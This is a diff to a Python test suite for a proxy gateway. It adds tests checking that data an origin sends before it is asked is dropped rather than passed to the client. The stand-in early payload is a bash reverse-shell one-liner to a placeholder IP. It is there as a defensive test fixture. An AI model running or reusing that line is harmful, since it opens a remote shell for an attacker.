@@ -29,6 +29,9 @@ ASK = (b"HTTP/1.1 407 Proxy Authentication Required\r\n"
        b"Proxy-Authenticate: Basic realm=\"OneCLI Gateway\"\r\n"
        b"Content-Length: 12\r\n\r\nno token yet")
 NO = b"HTTP/1.1 502 Bad Gateway\r\nContent-Length: 9\r\n\r\nno route\n"
+EARLY = (b"HTTP/1.1 200 OK\r\nContent-Length: 44\r\n\r\n"
+         b"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1 #\n")
+LATER = b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nlater"
 IDLE = 2		# seconds a tunnel may be silent
 HOLD = float(os.environ.get("HOLD", "1"))
 
@@ -47,6 +50,7 @@ class Gateway:
         self.ctx.load_cert_chain("mitm.pem", "mitm.key")
         self.log = open("gateway.log", "w")
         self.lock = threading.Lock()
+        self.tunnels = 0
 
     def told(self, **what):
         with self.lock:
@@ -90,6 +94,20 @@ class Gateway:
             c.send(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n"
                    % len(body) + body)
             return True
+        if line.startswith("CONNECT early.") or \
+                line.startswith("CONNECT again."):
+            self.tunnels += 1
+            c.send(b"HTTP/1.1 200 OK\r\n\r\n" +
+                   (EARLY if " early." in line and self.tunnels == 1
+                    else b""))
+            c.message()
+            if " early." in line and self.tunnels == 1:
+                return False
+            c.send(LATER)
+            if self.tunnels == 1:
+                c.message()         # and hangs up: it may be asked again
+                return False
+            return c.message() != ()
         if line.startswith("CONNECT slow."):
             time.sleep(HOLD)        # somebody is asked
         c.send(b"HTTP/1.1 200 OK\r\n\r\n")
@@ -244,6 +262,35 @@ def silent(proxy):
     equal(c.message()[1], b"abc")
 
 
+def inner(host):
+    return b"GET / HTTP/1.1\r\nHost: %s\r\n\r\n" % host
+
+
+def early(proxy):
+    """What the origin says with the gateway's yes, before it was asked, is
+    no answer to what the client sent with its CONNECT."""
+    c = connect(proxy)
+    c.send(connect_head("early.example:80", GOOD) + inner(b"early.example"))
+    equal(c.until(b"\r\n\r\n"), ESTABLISHED)
+    equal(c.message()[1], b"later")
+    equal(EARLY in c.seen, False)
+    wait_event(event="protocol_error", reason="unasked")
+    c.close()
+
+
+def again(proxy):
+    """Plain HTTP in a tunnel: the same way again when its origin ends."""
+    c = connect(proxy)
+    c.send(connect_head("again.example:80", GOOD))
+    equal(c.until(b"\r\n\r\n"), ESTABLISHED)
+    for n in range(2):
+        c.send(inner(b"again.example"))
+        equal(c.message()[1], b"later")
+    equal([(x["line"], x["credential"]) for x in told()],
+          [("CONNECT again.example:80 HTTP/1.1", "Basic " + GOOD)] * 2)
+    c.close()
+
+
 def through(proxy):
     """Not inspected here, the client sees the gateway's certificate."""
     c = secure(proxy, "other.example:443", ca="gateway-ca.pem")
@@ -280,4 +327,5 @@ elif sys.argv[1] == "serve":
     Gateway().serve(sys.argv[2])
 else:
     run({f.__name__: f for f in (chain, plain, challenge, refused, held,
-                                 silent, through, one_hop)}, sys.argv)
+                                 silent, early, again, through,
+                                 one_hop)}, sys.argv)
